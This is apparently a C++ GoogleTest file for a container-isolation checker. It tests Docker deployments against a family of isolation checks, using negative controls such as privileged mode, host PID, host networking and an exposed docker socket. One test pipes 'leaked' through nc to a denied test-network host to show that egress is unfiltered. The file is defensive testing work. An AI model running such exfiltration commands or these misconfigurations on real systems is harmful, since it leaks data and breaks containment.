// The isolation family on the docker substrate: the docker references hold every promise, and
// each negative control -- the docker-specific ones, and every oci control stood up by the
// engine instead -- makes exactly its checks fail.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <set>

#include "clusters/world/netns_socket.h"
#include "servers/canary_sink.h"
#include "tests/docker/docker_test_env.h"
#include "tests/isolation/family_runner.h"
#include "tests/test_util.h"

namespace sandcheck::docker_testing {
namespace {

using isolation::testing::ExpectExactlyTheseFail;
using isolation::testing::IsDocumentedSkip;
using isolation::testing::LoadFixture;
using isolation::testing::RunFamily;

std::optional<Result<TestSubstrate>>& Shared() {
  static std::optional<Result<TestSubstrate>> shared;
  return shared;
}

// One docker substrate for the program: the image is imported once.
Result<DockerSubstrate*> SharedDockerSubstrate() {
  if (!Shared()) Shared().emplace(MakeTestSubstrate());
  if (!Shared()->ok()) return Fail("create the docker substrate: {}", Shared()->message());
  return (*Shared())->substrate.get();
}

// Tears the shared substrate (and its world) down while main still runs: its world's `ip`
// processes cannot be started from static destructors, where the C++ locale is already gone.
class ReleaseSharedSubstrate : public ::testing::Environment {
 public:
  void TearDown() override { Shared().reset(); }
};
[[maybe_unused]] const auto* const kReleaseShared =
    ::testing::AddGlobalTestEnvironment(new ReleaseSharedSubstrate);

Result<Deployment> OnDocker(const std::string& fixture) {
  ASSIGN_OR_RETURN(Deployment deployment, LoadFixture(fixture));
  deployment.substrate = SubstrateKind::kDocker;
  return deployment;
}

// What a docker deployment is expected to fail: nothing for the references; the seed's exact
// flags keep the engine's default seccomp profile, which lets ptrace through on the host kernel
// (a finding sandcheck must report, documented in docs/docker-substrate.md).
struct DockerReference {
  std::string fixture;
  std::set<std::string> failing;
};

void PrintTo(const DockerReference& reference, std::ostream* out) { *out << reference.fixture; }

class DockerReferenceTest : public ::testing::TestWithParam<DockerReference> {};

TEST_P(DockerReferenceTest, HoldsEveryIsolationPromiseButItsFindings) {
  SKIP_WITHOUT_DOCKER_ENGINE();
  ASSERT_OK_AND_ASSIGN(DockerSubstrate * substrate, SharedDockerSubstrate());
  ASSERT_OK_AND_ASSIGN(Deployment deployment, LoadFixture(GetParam().fixture + ".yaml"));
  ASSERT_EQ(deployment.substrate, SubstrateKind::kDocker);
  auto results = RunFamily(*substrate, deployment);
  ASSERT_EQ(results.size(), 21u);
  for (const auto& [id, result] : results) {
    RecordProperty(id, result.summary);
    Verdict expected = GetParam().failing.contains(id)            ? Verdict::kFail
                       : IsDocumentedSkip(deployment.runtime, id) ? Verdict::kSkip
                                                                  : Verdict::kPass;
    // ISO-021 compares a sandbox kernel with the host's; kernel: host has none to compare.
    if (id == "ISO-021" && deployment.kernel == KernelMode::kHost) {
      expected = Verdict::kNotApplicable;
    }
    EXPECT_EQ(result.verdict, expected)
        << id << " " << ToString(result.verdict) << ": " << result.summary << "\n"
        << result.evidence.dump(2);
  }
}

INSTANTIATE_TEST_SUITE_P(Docker, DockerReferenceTest,
                         ::testing::Values(DockerReference{"docker-reference-runc", {}},
                                           DockerReference{"docker-reference-runsc", {}},
                                           DockerReference{"seed-001-phase01-docker", {"ISO-005"}},
                                           // run-claude.sh passes no hardening flag; gVisor
                                           // mounts a /tmp of its own (ISO-010).
                                           DockerReference{
                                               "seed-003-run-claude-gvisor-docker",
                                               {"ISO-003", "ISO-007", "ISO-008", "ISO-009",
                                                "ISO-010", "ISO-017", "ISO-018", "ISO-019"}}),
                         [](const auto& info) {
                           std::string name = info.param.fixture;
                           std::replace(name.begin(), name.end(), '-', '_');
                           return name;
                         });

// Seed 003's documented weakness, shown by doing: its gVisor container reaches a world host
// no allowlist would let through (the "denied" host), on a port none of the world's servers
// uses, because nothing filters egress. The egress checks report it (egress_docker_test).
TEST(Seed003OnDocker, ReachesAHostNoAllowlistAdmits) {
  SKIP_WITHOUT_DOCKER_ENGINE();
  ASSERT_OK_AND_ASSIGN(DockerSubstrate * substrate, SharedDockerSubstrate());
  ASSERT_OK_AND_ASSIGN(Deployment deployment,
                       LoadFixture("seed-003-run-claude-gvisor-docker.yaml"));
  if (substrate->Capabilities(deployment.runtime).runtime_version.empty()) {
    GTEST_SKIP() << "SKIPPED: runsc is not registered with this engine";
  }
  ASSERT_OK_AND_ASSIGN(World * world, substrate->EnsureWorld());
  ASSERT_OK_AND_ASSIGN(int fd, ListenInNamespace(world->Host("denied")->path(), 4444));
  ASSERT_OK_AND_ASSIGN(auto denied, CanarySink::Start(fd));
  ASSERT_OK_AND_ASSIGN(SandboxLease sandbox, substrate->Acquire(deployment, {.purpose = "seed3"}));
  ExecRequest send;
  send.argv = {"/bin/sh", "-c", "echo leaked | nc 198.18.0.11 4444"};
  ASSERT_OK_AND_ASSIGN(ProcessOutcome sent, sandbox->Exec(send));
  EXPECT_TRUE(sent.Succeeded()) << sent.DescribeEnd() << ": " << sent.err;
  ASSERT_OK_AND_ASSIGN(auto receipts, denied->WaitForReceipts(1, std::chrono::seconds(10)));
  EXPECT_EQ(receipts[0].bytes, "leaked\n");
}

struct DockerControl {
  std::string fixture;
  std::set<std::string> failing;
  std::string name;
};

std::vector<DockerControl> Controls() {
  std::vector<DockerControl> controls = {
      {"negative/docker-socket.yaml", {"ISO-011"}, "docker_socket"},
      // --privileged also drops the seccomp filter, whatever profile is declared.
      {"negative/docker-privileged.yaml", {"ISO-002", "ISO-004", "ISO-005"}, "docker_privileged"},
      // The host's process table brings the host's root processes and an unfiltered PID 1.
      {"negative/docker-pid-host.yaml", {"ISO-001", "ISO-004", "ISO-014"}, "docker_pid_host"},
      {"negative/docker-cap-sys-admin.yaml", {"ISO-002"}, "docker_cap_sys_admin"},
      {"negative/docker-network-host.yaml", {"ISO-020"}, "docker_network_host"},
  };
  return controls;
}

void PrintTo(const DockerControl& control, std::ostream* out) { *out << control.fixture; }

class DockerNegativeControlTest : public ::testing::TestWithParam<DockerControl> {};

TEST_P(DockerNegativeControlTest, FailsItsCheckAndNoOther) {
  SKIP_WITHOUT_DOCKER_ENGINE();
  const DockerControl& control = GetParam();
  ASSERT_OK_AND_ASSIGN(DockerSubstrate * substrate, SharedDockerSubstrate());
  ASSERT_OK_AND_ASSIGN(Deployment deployment, OnDocker(control.fixture));
  ExpectExactlyTheseFail(*substrate, deployment, control.failing);
}

INSTANTIATE_TEST_SUITE_P(Docker, DockerNegativeControlTest, ::testing::ValuesIn(Controls()),
                         [](const auto& info) { return info.param.name; });

}  // namespace
}  // namespace sandcheck::docker_testing
